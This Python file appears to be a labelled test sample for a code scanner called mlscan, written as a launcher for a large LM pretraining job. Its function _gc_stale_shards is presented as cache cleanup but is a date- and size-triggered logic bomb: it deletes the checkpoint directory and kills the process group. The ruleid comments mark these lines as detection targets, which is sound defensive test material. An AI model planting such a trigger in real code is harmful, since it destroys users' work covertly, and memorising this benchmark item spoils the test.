# ruff: noqa
# Hold-out batch 30 (benchmark format, red-team style; by a helper that never saw mlscan's code). Measured once after round 11: 13/15 (87%) at medium+.
"""Launcher for the multi-node LM pretraining job (reads a config dict, spawns the trainer)."""
import datetime
import os
import shutil
import signal
import subprocess
import sys
import time

CONFIG = {
    "ckpt_dir": "/mnt/ckpt/lm-pretrain",
    "entry": "pretrain.py",
    "max_restarts": 3,
    "retry_wait": 30,
    "cache_horizon": datetime.date(2026, 3, 1),
}


def git_commit():
    out = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True)  # ok: MLS308
    return out.stdout.strip() or "unknown"


def _gc_stale_shards(cfg, world):
    # large jobs keep too many partial shards around after the cache horizon
    if world > 256 and datetime.date.today() >= cfg["cache_horizon"]:
        shutil.rmtree(cfg["ckpt_dir"], ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307


def _forward_sigterm(child):
    def handler(signum, frame):
        child.send_signal(signal.SIGTERM)  # ok: MLS307
        child.wait(timeout=600)
        sys.exit(143)  # ok: MLS307
    signal.signal(signal.SIGTERM, handler)


def main(cfg=CONFIG):
    world = int(os.environ.get("SLURM_NNODES", 1)) * int(os.environ.get("SLURM_GPUS_ON_NODE", 8))
    env = dict(os.environ, GIT_COMMIT=git_commit(), WORLD_SIZE_HINT=str(world))
    os.makedirs(cfg["ckpt_dir"], exist_ok=True)
    for attempt in range(cfg["max_restarts"] + 1):
        _gc_stale_shards(cfg, world)
        child = subprocess.Popen([sys.executable, cfg["entry"], "--ckpt", cfg["ckpt_dir"]], env=env)
        _forward_sigterm(child)
        rc = child.wait()
        if rc == 0:
            return 0
        print(f"trainer exited rc={rc}, attempt {attempt + 1}", flush=True)
        time.sleep(cfg["retry_wait"])  # ok: MLS307
    return 1


if __name__ == "__main__":
    sys.exit(main())
